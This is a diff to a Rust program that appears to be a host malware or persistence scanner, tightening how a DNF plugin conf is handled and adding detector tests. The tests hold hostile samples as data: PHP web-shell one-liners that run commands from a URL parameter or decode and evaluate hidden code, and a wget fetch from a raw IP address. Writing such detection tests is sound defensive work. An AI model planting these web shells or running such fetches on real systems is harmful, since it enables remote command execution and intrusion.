@@ -634,7 +634,11 @@ fn dnf_plugin_module(c: &mut Ctx, conf: &Path) {
         .flat_map(|d| catalogue::expand(c.root, d))
         .map(|d| d.join(format!("{stem}.py")).to_string_lossy().into_owned())
         .collect();
-    if let Some(mut it) = c.items.pop() {
+    // The conf's own item, if script() made one (an unreadable conf has none).
+    let shown = escape_path(&c.root.host_view(conf));
+    if c.items.last().is_some_and(|i| i.path == shown)
+        && let Some(mut it) = c.items.pop()
+    {
         c.follow(&mut it, &modules);
         c.items.push(it);
     }
@@ -1508,6 +1512,12 @@ mod tests {
         assert!(text_flags("/tmp/.x/run").contains(&"runs_from_tmp"));
         assert!(text_flags("/home/u/.hidden/run").contains(&"runs_from_tmp"));
         assert!(text_flags("/usr/bin/node /home/u/.local/lib/openclaw.mjs gateway").is_empty());
+        // The tmp dirs themselves, or a variable under them, run nothing.
+        assert!(text_flags("if mountpoint -q /dev/shm/; then").is_empty());
+        assert!(text_flags(r#"DIR="/tmp/$1""#).is_empty());
+        assert!(text_flags("/dev/shm/.x").contains(&"runs_from_tmp"));
+        assert_eq!(text_flags("<?php system($_GET['c']); ?>"), ["web_shell"]);
+        assert_eq!(text_flags("eval(base64_decode($x));"), ["web_shell"]);
         assert!(text_flags("wget http://91.92.242.30/x").contains(&"ioc"));
     }
 
